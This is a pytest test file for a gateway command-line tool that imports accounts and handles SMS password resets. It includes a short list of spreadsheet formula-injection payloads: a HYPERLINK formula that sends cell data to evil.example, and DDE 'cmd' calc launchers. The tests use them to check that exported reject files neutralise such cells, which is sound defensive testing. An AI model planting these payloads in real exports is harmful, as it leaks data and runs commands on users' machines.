"""The ``vssid-gateway`` command as operators use it (SQLite in a temporary folder)."""

from __future__ import annotations

import codecs
import csv
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from gateway.cli import build_parser, main
from gateway.cli_accounts import REJECTS_SHOWN

DEMO = Path(__file__).parents[2] / "demo" / "accounts.csv"


@pytest.fixture
def config_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "config.toml"
    path.write_text(
        f'[database]\nurl = "sqlite:///{tmp_path}/vssid.db"\n'
        "[reset]\nargon2_memory_kib = 8192\nargon2_time_cost = 1\n",
        encoding="utf-8",
    )
    monkeypatch.setenv("VSSID_CONFIG", str(path))
    return path


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    status = main(list(argv))
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def subcommand_paths() -> list[list[str]]:
    paths: list[list[str]] = []

    def walk(parser: object, prefix: list[str]) -> None:
        for action in getattr(parser, "_actions", []):
            choices = getattr(action, "choices", None)
            if isinstance(choices, dict):
                for name, sub in choices.items():
                    paths.append([*prefix, name])
                    walk(sub, [*prefix, name])

    walk(build_parser(), [])
    return paths


@pytest.mark.parametrize("path", subcommand_paths(), ids=" ".join)
def test_every_subcommand_has_help_and_takes_config(
    path: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exited:
        main([*path, "--help"])
    assert exited.value.code == 0
    assert "--config FILE" in capsys.readouterr().out


def test_the_console_script_is_installed() -> None:
    script = Path(sys.executable).parent / "vssid-gateway"
    result = subprocess.run(
        [str(script), "--version"], capture_output=True, text=True, timeout=60, check=False
    )
    assert result.returncode == 0 and result.stdout.startswith("vssid-gateway ")


def test_upgrade_import_show_and_reset_work_end_to_end(
    config_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(capsys, "db", "upgrade")[1].startswith("database schema upgraded from empty to")
    assert "up to date" in run(capsys, "db", "upgrade")[1]

    status, out, _ = run(capsys, "accounts", "import", str(DEMO))
    assert status == 0 and out.strip() == "imported 10, updated 0, rejected 0"
    status, out, _ = run(capsys, "accounts", "import", str(DEMO))
    assert status == 0 and out.strip() == "imported 0, updated 10, rejected 0"

    status, out, _ = run(capsys, "reset", "--from", "+84 91 234 5678", "0123456789")
    assert status == 0
    password = out.strip().rsplit("Mat khau: ", 1)[1]
    assert len(password) == 8 and password.isdigit()

    status, out, _ = run(capsys, "accounts", "show", "0123456789")
    assert status == 0
    assert "must_change_password         yes" in out and "argon2" not in out and password not in out

    status, out, _ = run(capsys, "reset", "--from", "0987654321", "0123456789")
    assert status == 3 and "khong khop" in out

    status, out, _ = run(
        capsys, "reset", "--from", "0912345678", "--correlation-id", "x", "0123456789"
    )
    status, out, _ = run(
        capsys, "reset", "--from", "0912345678", "--correlation-id", "x", "0123456789"
    )
    assert status == 5 and "already handled" in out


def test_import_reports_rejects_with_line_numbers_and_exits_zero(
    config_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run(capsys, "db", "upgrade")
    source = tmp_path / "accounts.csv"
    source.write_text(
        "ma_so_bhxh,ho_ten,so_dien_thoai,email,da_dang_ky_gddt\n"
        "0123456789,Nguyễn Văn An,0912345678,,1\n"
        "12345,Sai Mã,0912345678,,1\n",
        encoding="utf-8",
    )
    rejects = tmp_path / "rejects.csv"

    status, out, _ = run(capsys, "accounts", "import", str(source), "--rejects", str(rejects))

    assert status == 0 and out.strip() == f"imported 1, updated 0, rejected 1 (see {rejects})"
    with rejects.open(encoding="utf-8-sig", newline="") as handle:
        written = list(csv.reader(handle))
    assert written[0][:2] == ["line", "reason"]
    assert written[1][:3] == ["3", "ma_so_bhxh must be exactly 10 digits", "12345"]


def test_without_a_rejects_file_each_rejected_line_and_reason_goes_to_stderr(
    config_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run(capsys, "db", "upgrade")
    source = tmp_path / "accounts.csv"
    bad = [f"12345,Sai Mã {n},0912345678,,1\n" for n in range(REJECTS_SHOWN + 3)]
    source.write_text(
        "ma_so_bhxh,ho_ten,so_dien_thoai,email,da_dang_ky_gddt\n"
        "0123456789,Nguyễn Văn An,0912345678,,1\n" + "".join(bad),
        encoding="utf-8",
    )

    status, out, err = run(capsys, "accounts", "import", str(source))

    assert status == 0 and out.strip() == f"imported 1, updated 0, rejected {len(bad)}"
    lines = err.strip().splitlines()
    assert lines[0] == "line 3: rejected: ma_so_bhxh must be exactly 10 digits"
    assert len(lines) == REJECTS_SHOWN + 1 and lines[-1].startswith("... and 3 more rejected")
    assert "Sai" not in err and "0912345678" not in err  # reasons only, never the fields


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&E2,"Đặt lại mật khẩu")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def import_rejects(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> Path:
    """Import a file whose rows are all rejected (bad code) and hold spreadsheet formulas."""
    run(capsys, "db", "upgrade")
    source = tmp_path / "accounts.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(["ma_so_bhxh", "ho_ten", "so_dien_thoai", "email", "da_dang_ky_gddt"])
        writer.writerow(["12345", "Nguyễn Thị Ánh Tuyết", "0912345678", "", "1"])
        writer.writerows(["12345", formula, "0912345678", "", "1"] for formula in FORMULAS)
    rejects = tmp_path / "rejects.csv"
    status, out, _ = run(capsys, "accounts", "import", str(source), "--rejects", str(rejects))
    assert status == 0 and out.startswith(f"imported 0, updated 0, rejected {1 + len(FORMULAS)}")
    return rejects


def test_rejected_cells_that_a_spreadsheet_would_run_are_written_as_text(
    config_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rejects = import_rejects(capsys, tmp_path)

    with rejects.open(encoding="utf-8-sig", newline="") as handle:
        names = [row[3] for row in csv.reader(handle)][1:]
    assert names == ["Nguyễn Thị Ánh Tuyết", *(f"'{formula}" for formula in FORMULAS)]


def test_the_rejects_file_is_utf8_with_a_bom_so_excel_shows_vietnamese(
    config_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    written = import_rejects(capsys, tmp_path).read_bytes()

    assert written.startswith(codecs.BOM_UTF8 + b"line,reason,ma_so_bhxh")
    assert "Nguyễn Thị Ánh Tuyết".encode() in written


@pytest.mark.parametrize("existing", [False, True], ids=["new-file", "world-readable-file"])
def test_the_rejects_file_is_readable_by_its_owner_only_whatever_the_umask(
    config_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], existing: bool
) -> None:
    if existing:
        (tmp_path / "rejects.csv").write_text("old rejects\n", encoding="utf-8")
        (tmp_path / "rejects.csv").chmod(0o666)
    previous = os.umask(0)
    try:
        rejects = import_rejects(capsys, tmp_path)
    finally:
        os.umask(previous)

    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
    assert b"old rejects" not in rejects.read_bytes()


@pytest.mark.parametrize(
    ("content", "reason"),
    [(None, "cannot read"), ("name,phone\nx,y\n", "missing column(s) ma_so_bhxh")],
    ids=["missing-file", "wrong-header"],
)
def test_an_unreadable_file_exits_non_zero_and_imports_nothing(
    config_file: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    content: str | None,
    reason: str,
) -> None:
    run(capsys, "db", "upgrade")
    source = tmp_path / "accounts.csv"
    if content is not None:
        source.write_text(content, encoding="utf-8")

    status, _, err = run(capsys, "accounts", "import", str(source))

    assert status == 1 and reason in err


def test_add_validates_like_import(config_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run(capsys, "db", "upgrade")
    assert (
        run(
            capsys,
            "accounts",
            "add",
            "--code",
            "0123456789",
            "--name",
            "An",
            "--phone",
            "0912345678",
        )[0]
        == 0
    )
    status, _, err = run(
        capsys, "accounts", "add", "--code", "0123456789", "--name", "An", "--phone", "12"
    )
    assert status == 2 and "so_dien_thoai is not a valid phone number" in err


def test_a_bad_configuration_stops_the_command_with_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "bad.toml"
    bad.write_text("[reset]\nargon2_time_cost = 0\n", encoding="utf-8")

    status, out, err = run(capsys, "--config", str(bad), "db", "upgrade")

    assert status == 2 and out == ""
    assert err.count("\n") == 1 and "[reset] argon2_time_cost: must be at least 1" in err


UNREACHABLE = "postgresql+psycopg://gw:Unreachable-Pw-3@127.0.0.1:1/vssid"
"""Nothing listens on port 1: the connection is refused at once."""


def test_an_unreachable_database_stops_a_command_with_one_line_and_no_password(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "c.toml"
    config.write_text(f'[database]\nurl = "{UNREACHABLE}"\n', encoding="utf-8")

    status, out, err = run(capsys, "--config", str(config), "db", "upgrade")

    assert status == 1 and out == "" and err.count("\n") == 1
    assert err.startswith("vssid-gateway: database: OperationalError: connection failed")
    assert "Unreachable-Pw-3" not in err and "sqlalche.me" not in err


def _gateway(*argv: str, script: str = "") -> subprocess.CompletedProcess[str]:
    """``vssid-gateway ARGV`` in a process of its own (``run`` takes over the global logger);
    ``script`` runs first, in the same process."""
    code = f"{script}\nimport sys\nfrom gateway.cli import main\nsys.exit(main(sys.argv[1:]))"
    return subprocess.run(
        [sys.executable, "-c", code, *argv], capture_output=True, text=True, timeout=60, check=False
    )


def test_run_with_an_unreachable_database_says_so_in_one_line(tmp_path: Path) -> None:
    config = tmp_path / "c.toml"
    config.write_text(
        f'[database]\nurl = "{UNREACHABLE}"\n[http]\nenabled = false\n', encoding="utf-8"
    )

    result = _gateway("--config", str(config), "run")

    assert result.returncode == 1 and result.stderr.count("\n") == 1, result.stderr
    assert result.stderr.startswith("vssid-gateway: cannot start: database unreachable")
    assert "Connection refused" in result.stderr and "Unreachable-Pw-3" not in result.stderr


BUILD_LOGS_THEN_FAILS = """
from twisted.logger import Logger
import gateway.cli_run
from gateway.service import StartupError

def make_service(settings, reactor):
    Logger(namespace="vssid.gateway").info("built the store", event="store_opened")
    raise StartupError("SMPP listener: port taken")

gateway.cli_run.make_service = make_service
"""


def test_what_the_service_logs_while_it_is_built_is_written(config_file: Path) -> None:
    result = _gateway("--config", str(config_file), "run", script=BUILD_LOGS_THEN_FAILS)

    assert result.returncode == 1
    assert result.stderr == "vssid-gateway: cannot start: SMPP listener: port taken\n"
    assert [json.loads(line)["event"] for line in result.stdout.splitlines()] == ["store_opened"]
